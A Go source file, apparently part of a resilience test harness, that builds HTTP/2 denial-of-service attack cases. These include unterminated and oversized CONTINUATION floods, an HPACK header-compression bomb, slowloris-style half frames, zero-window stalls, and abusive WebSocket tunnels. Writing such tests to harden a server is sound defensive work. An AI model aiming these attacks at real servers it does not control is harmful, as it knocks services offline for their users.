package h2attack

import (
	"bytes"
	"strings"

	"golang.org/x/net/http2"
)

// fieldBlocks are the fields of requests and trailers: blocks without an end, and large ones.
func fieldBlocks() []Attack {
	return []Attack{
		ends("CONTINUATION without an end", func(c *client) {
			c.raw(http2.FrameHeaders, 0, 1, c.fields(attackRequest...)...)
			often(func(c *client) { c.raw(http2.FrameContinuation, 0, 1, c.fields("a", "b")...) })(c)
		}),
		ends("empty CONTINUATION", func(c *client) {
			c.raw(http2.FrameHeaders, 0, 1)
			often(func(c *client) { c.raw(http2.FrameContinuation, 0, 1) })(c)
		}),
		ends("large CONTINUATION", func(c *client) {
			c.raw(http2.FrameHeaders, 0, 1)
			for range 100 {
				c.raw(http2.FrameContinuation, 0, 1, make([]byte, 16384)...)
			}
		}),
		ends("a bomb: references to a large field", func(c *client) {
			block := bytes.Clone(c.fields(append(append([]string{}, attackRequest...), "x", strings.Repeat("y", 3900))...))
			c.raw(http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, block...)
			for id := uint32(3); id < 2000; id += 2 {
				c.raw(http2.FrameHeaders, http2.FlagHeadersEndHeaders, id, bytes.Repeat([]byte{0x80 | 62}, 16000)...)
			}
		}),
		ends("one long value", func(c *client) {
			c.raw(http2.FrameHeaders, 0, 1, append([]byte{0, 1, 'a', 0x7f, 0xff, 0xff, 0x7f}, make([]byte, 10000)...)...)
			c.raw(http2.FrameContinuation, http2.FlagContinuationEndHeaders, 1, make([]byte, 10000)...)
		}),
		held("large trailers", func(c *client) {
			for range 50 {
				id := c.open(false)
				c.raw(http2.FrameHeaders, http2.FlagHeadersEndHeaders|http2.FlagHeadersEndStream, id, c.fields("a", strings.Repeat("b", 15000))...)
			}
		}),
		held("many cookies", func(c *client) {
			for range 50 {
				c.open(true, repeated("cookie", "a=b", 900)...)
			}
		}),
	}
}

// heldConnections are connections that are held: requests without an end, and responses that the client does not accept.
func heldConnections() []Attack {
	return []Attack{
		held("a header without an end", func(c *client) { c.raw(http2.FrameHeaders, 0, 1, c.fields(attackRequest...)...) }),
		held("half a frame header", func(c *client) { c.write("\x00\x00") }),
		held("half a frame", func(c *client) { c.write("\x00\x10\x00\x01\x04\x00\x00\x00\x01abc") }),
		held("bodies without an end", func(c *client) {
			for range 100 {
				c.open(false)
			}
		}),
		held("a window of 0", func(c *client) {
			c.raw(http2.FrameSettings, 0, 0, 0, 4, 0, 0, 0, 0)
			for range 100 {
				c.page()
			}
		}),
		ends("a window byte by byte", func(c *client) {
			c.raw(http2.FrameSettings, 0, 0, 0, 4, 0, 0, 0, 0)
			id := c.page()
			often(func(c *client) { c.raw(http2.FrameWindowUpdate, 0, id, 0, 0, 0, 1) })(c)
		}),
		unread("responses that are not read", func(c *client) {
			c.raw(http2.FrameSettings, 0, 0, 0, 4, 0x7f, 255, 255, 255)
			c.raw(http2.FrameWindowUpdate, 0, 0, 0x7f, 0, 0, 0)
			for range 100 {
				c.page()
			}
		}),
		held("more DATA than the window", func(c *client) {
			id := c.open(false, "x-hold", "1")
			for range 400 {
				c.raw(http2.FrameData, 0, id, make([]byte, 16384)...)
			}
		}),
	}
}

// tunnels are WebSockets. The service accepts them, but does not read.
func tunnels() []Attack {
	return []Attack{
		ends("tunnels that are closed at once", manyStreams(func(c *client) { c.raw(http2.FrameRSTStream, 0, c.connect(), 0, 0, 0, 8) })),
		ends("made to reset: trailers of a tunnel", manyStreams(func(c *client) {
			id := c.connect()
			c.raw(http2.FrameHeaders, http2.FlagHeadersEndHeaders|http2.FlagHeadersEndStream, id, c.fields("a", "b")...)
		})),
		held("silent tunnels", func(c *client) {
			for range 100 {
				c.connect()
			}
		}),
		held("tunnels with more DATA than the windows", func(c *client) {
			for range 50 {
				id := c.connect()
				for range 5 {
					c.raw(http2.FrameData, 0, id, make([]byte, 16384)...)
				}
			}
		}),
	}
}
